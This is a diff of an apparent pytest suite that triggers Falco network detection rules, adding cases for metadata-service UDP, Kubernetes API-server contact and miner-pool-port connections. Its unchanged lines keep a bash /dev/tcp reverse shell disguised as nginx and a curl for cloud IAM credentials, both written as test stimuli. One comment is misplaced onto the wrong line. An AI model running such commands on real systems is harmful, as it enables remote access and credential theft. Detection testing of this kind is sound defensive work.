@@ -9,9 +9,14 @@ host elsewhere; nothing leaves the namespaces the test made.
 Tuning, as a Falco user does it (one agent for the module):
 - rules Falco ships disabled are enabled by a later rules file (`- rule: NAME` / `enabled: true`) for the
   interpreted-procs and inbound-source rules, and by Falco's `-o rules[].enable.rule=NAME` selection for the
-  NodePort rule;
+  NodePort and miner-pool-ports rules;
 - "Network Connection outside Local Subnet" watches only the namespaces listed in
   namespace_scope_network_only_subnet (empty as shipped): the later rules file appends the test's namespace.
+
+Names: the agent maps Falco's k8s_api_server name (kubernetes.default.svc.cluster.local) to
+KUBERNETES_SERVICE_HOST of its own environment, as kubelet sets it in the agent's pod (the test sets it), and
+resolves the miner pool names of "Detect outbound connections to common miner pool ports" with the node's
+resolver: the agent runs in a private mount namespace whose /etc/hosts names the test's pool address.
 
 Stand-ins: none. The interpreted-procs cases run the machine's own /usr/bin/python3 (proc.name "python3"); the
 other Python clients and servers run as the real interpreter's file name (python3.11), which is in no list.
@@ -33,7 +38,10 @@ pytestmark = pytest.mark.root
 PEER = "198.51.100.7"  # TEST-NET-2 on the pod's loopback: not RFC 1918, so "outbound" to Falco
 METADATA_IP = "169.254.169.254"
 SUBNET_ONLY_NS = "kg-subnet-only"  # the namespace appended to namespace_scope_network_only_subnet
-INTERPRETER = "/usr/bin/python3"  # proc.name "python3": in Falco's interpreted_binaries
+INTERPRETER = "/usr/bin/python3"
+API_SERVER_IP = "10.96.0.1"  # the `kubernetes` service's cluster IP: KUBERNETES_SERVICE_HOST in the agent's pod
+POOL_IP = "203.0.113.9"  # TEST-NET-3: what the node's resolver gives for a miner pool's name (MINER_DOMAIN)
+MINER_DOMAIN = "de.minexmr.com"  # in Falco's miner_domains  # proc.name "python3": in Falco's interpreted_binaries
 
 GROUP = ("Contact K8S API Server From Container", "System procs network activity", "Unexpected UDP Traffic",
          "Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container",
@@ -44,7 +52,8 @@ GROUP = ("Contact K8S API Server From Container", "System procs network activity
          "Container Access to Host Sensitive Paths")
 ENABLE = ("Interpreted procs inbound network activity", "Interpreted procs outbound network activity",
           "Unexpected inbound connection source")
-OPTIONS = ("rules[].enable.rule=Unexpected K8s NodePort Connection",)
+OPTIONS = ("rules[].enable.rule=Unexpected K8s NodePort Connection",
+           "rules[].enable.rule=Detect outbound connections to common miner pool ports")
 OVERRIDES = (f"- list: namespace_scope_network_only_subnet\n  items: [{SUBNET_ONLY_NS}]\n"
              "  override:\n    items: append\n")
 
@@ -60,6 +69,16 @@ def serve_once(address: str, port: int, python: str = PYTHON) -> str:
 
 UDP_SEND = (f"{PYTHON} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
             f"s.connect(('{PEER}', 5151)); s.send(b'kg')\"")
+
+
+def send_datagrams(address: str, port: int, python: str = PYTHON) -> str:
+    """Datagrams sent without connect(): sendto twice to one destination (the kernel side reports the first:
+    fd.name_changed), then sendmsg to the same one (not reported again)."""
+    return (f"{python} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+            f"[s.sendto(b'kg', ('{address}', {port})) for _ in range(2)]; s.sendmsg([b'kg'], [], 0, "
+            f"('{address}', {port}))\"")
+
+
 REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
                  f"'bash -c \"bash -i >& /dev/tcp/{PEER}/4444 0>&1\"; true'")
 METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
@@ -83,11 +102,15 @@ CASES = [
      "default"),
     ("metadata-ec2", "Contact EC2 Instance Metadata Service From Container",
      ("Contact cloud metadata service from container",), ("metadata", METADATA_IP, 80), METADATA_GET, "default"),
+    ("metadata-udp-sendto", "Contact cloud metadata service from container",
+     ("Contact EC2 Instance Metadata Service From Container",), None, send_datagrams(METADATA_IP, 8053), "default"),
     ("outside-subnet", "Network Connection outside Local Subnet", (), ("listen", PEER, 8085), dial(PEER, 8085),
      SUBNET_ONLY_NS),
     ("nodeport", "Unexpected K8s NodePort Connection", (), ("listen", PEER, 30080), dial(PEER, 30080), "default"),
     ("interpreted-outbound", "Interpreted procs outbound network activity", (), ("listen", PEER, 8082),
      dial(PEER, 8082, INTERPRETER), "default"),
+    ("interpreted-udp-sendto", "Interpreted procs outbound network activity", (), None,
+     send_datagrams(PEER, 5353, INTERPRETER), "default"),
     ("interpreted-inbound", "Interpreted procs inbound network activity", (), ("dial", "{pod}", 8083),
      serve_once("{pod}", 8083, INTERPRETER), "default"),
     ("inbound-source", "Unexpected inbound connection source", (), ("dial", PEER, 8084), serve_once(PEER, 8084),
@@ -97,6 +120,11 @@ CASES = [
     # bash's /dev/tcp connect is a shell's network activity too
     ("reverse-shell-web", "Reverse Shell from Web Server", ("System procs network activity",),
      ("listen", PEER, 4444), REVERSE_SHELL, "default"),
+    # Falco's macro k8s_api_server as shipped: fd.sip.name = kubernetes.default.svc.cluster.local
+    ("k8s-api-server", "Contact K8S API Server From Container", (), ("listen", API_SERVER_IP, 443),
+     dial(API_SERVER_IP, 443), "default"),
+    ("miner-pool-port", "Detect outbound connections to common miner pool ports", (), ("listen", POOL_IP, 3333),
+     dial(POOL_IP, 3333), "default"),
     ("host-path-read", "Container Access to Host Sensitive Paths", (), None, HOST_MOUNT, "default"),
 ]
 
@@ -104,7 +132,8 @@ CASES = [
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FalcoLab]:
     falco = FalcoLab.start(tmp_path_factory.mktemp("falco-network"), enable=ENABLE, options=OPTIONS,
-                           overrides=OVERRIDES)
+                           overrides=OVERRIDES, env={"KUBERNETES_SERVICE_HOST": API_SERVER_IP},
+                           hosts=f"{POOL_IP} {MINER_DOMAIN}\n")
     try:
         yield falco
     finally:
@@ -117,7 +146,8 @@ def test_network_rule_fires(lab: FalcoLab, tmp_path: Path, rule: str, also: tupl
                             far_end: tuple[str, str, int] | None, behaviour: str, namespace: str) -> None:
     pod = lab.pod("net", namespace=namespace)
     pod.add_address(PEER)
-    pod.add_address(METADATA_IP)
+    for address in (METADATA_IP, API_SERVER_IP, POOL_IP):
+        pod.add_address(address)
     behaviour = behaviour.replace("{pod}", pod.ip)
     if far_end is None:
         lab.behave(pod, behaviour)
